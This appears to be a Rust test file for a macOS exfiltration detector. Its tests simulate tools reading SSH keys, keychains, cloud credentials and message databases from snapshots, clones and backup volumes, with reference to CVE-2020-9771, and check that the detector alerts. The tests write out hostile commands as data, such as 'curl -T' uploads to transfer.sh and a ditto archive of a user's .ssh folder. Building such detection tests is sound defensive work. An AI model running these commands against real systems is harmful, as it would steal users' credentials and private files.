//! Secrets of homes on other disks: clones, backups, a Windows, and snapshots whose mount nobody saw. `mount_apfs -s` shows what
//! every user has to whoever may not open it where it lies (CVE-2020-9771), at a place of his own choice.

use super::world::*;

const TOOL: Program = adhoc("/Users/alice/Downloads/tool", "tool");
const DITTO: Program = apple("/usr/bin/ditto", "com.apple.ditto");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");

fn taken(path: &str) -> Told {
    let mut w = World::new();
    let tool = w.launch(0.0, TOOL, &["tool"]);
    w.open(1.0, &tool, path);
    w.upload(2.0, &tool, "transfer.sh", 50_000);
    w.tell()
}

#[test]
fn homes_of_other_disks_and_of_snapshots() {
    for (disk, secret, set) in [
        ("/private/tmp/snap", "/Users/alice/.ssh/id_ed25519", "ssh-keys"),
        ("/private/tmp/snap/mnt", "/Users/bob/Library/Keychains/login.keychain-db", "keychains"),
        ("/Volumes/Backup/Data", "/Users/alice/.aws/credentials", "cloud-keys"),
        ("/Volumes/Clone of Alice", "/Users/alice/Documents/plan.docx", "documents"),
        ("/Volumes/BOOTCAMP", "/Users/Bob/Documents/plan.docx", "documents"),
        ("/System/Volumes/Update/mnt1", "/Users/alice/Library/Messages/chat.db", "messages"),
    ] {
        let told = taken(&format!("{disk}{secret}"));
        assert_eq!(&*told.one_of_any_confidence().reads[0].sets[0], set, "{disk}{secret}");
    }
    for other in [
        "/private/tmp/snap/Users/.localized",
        "/private/tmp/snap/Users/alice/notes.txt",
        "/private/tmp/snap/alice/.ssh/id_ed25519",
        "/private/tmp/snap/Users.old/alice/.ssh/id_ed25519",
        "/Users/alice/Library/Application Support/CrossOver/Bottles/x/drive_c/users/crossover/Documents/game/save.dat",
        "/Volumes/Work/app/src/users/api/.env",
    ] {
        taken(other).none();
    }
}

/// Whoever makes a path of nothing but `Users` makes nobody wait, and hides nothing behind it.
#[test]
fn many_folders_of_that_name() {
    let many = "/Users/a".repeat(100);
    taken(&format!("/private/tmp{many}/Users/alice/.ssh/id_ed25519")).alert();
}

/// The name of a folder that a set leaves out hides what is moved below it no more than any other.
#[test]
fn a_folder_that_is_moved_among_repositories() {
    for to in [
        "/Users/alice/Documents/GitHub/corp",
        "/Users/alice/Desktop/x.app/Contents/corp",
        "/private/tmp/corp",
    ] {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["zsh"]);
        w.rename_folder(1.0, &shell, "/Users/alice/Documents/corp", to);
        let curl = w.spawn(1.4, &shell, CURL, &["curl", "-T", "x", "https://transfer.sh/"]);
        w.open(1.5, &curl, &format!("{to}/plan.docx"));
        w.upload(2.0, &curl, "transfer.sh", 50_000);
        w.tell().one_of_any_confidence();
    }
}

/// A folder named like a synchronised one is none where no client of a user looks at it.
#[test]
fn a_folder_on_another_disk_is_not_synchronised() {
    for (home, drops) in [("/Users/alice", true), ("/Volumes/Clone/Users/alice", false)] {
        let mut w = World::new();
        let ditto = w.launch(0.0, DITTO, &["ditto"]);
        w.open(1.0, &ditto, "/Users/alice/.ssh/id_ed25519");
        w.write(1.1, &ditto, &format!("{home}/Dropbox/id_ed25519"));
        let told = w.tell();
        match drops {
            true => _ = told.alert(),
            false => told.none(),
        }
    }
}

/// Packed as a whole: the name of the folder tells what is in it.
#[test]
fn a_home_of_a_snapshot_in_an_archive() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["zsh"]);
    let ditto =
        w.spawn(1.0, &shell, DITTO, &["ditto", "-c", "-k", "/tmp/snap/Users/alice/.ssh", "/tmp/x.zip"]);
    w.open(1.1, &ditto, "/private/tmp/snap/Users/alice/.ssh/id_ed25519");
    w.write(1.2, &ditto, "/private/tmp/x.zip");
    w.exit(1.3, &ditto);
    let curl = w.spawn(1.4, &shell, CURL, &["curl", "-T", "/tmp/x.zip", "https://transfer.sh/"]);
    w.open(1.5, &curl, "/private/tmp/x.zip");
    w.upload(2.0, &curl, "transfer.sh", 50_000);
    w.tell().alert();
}
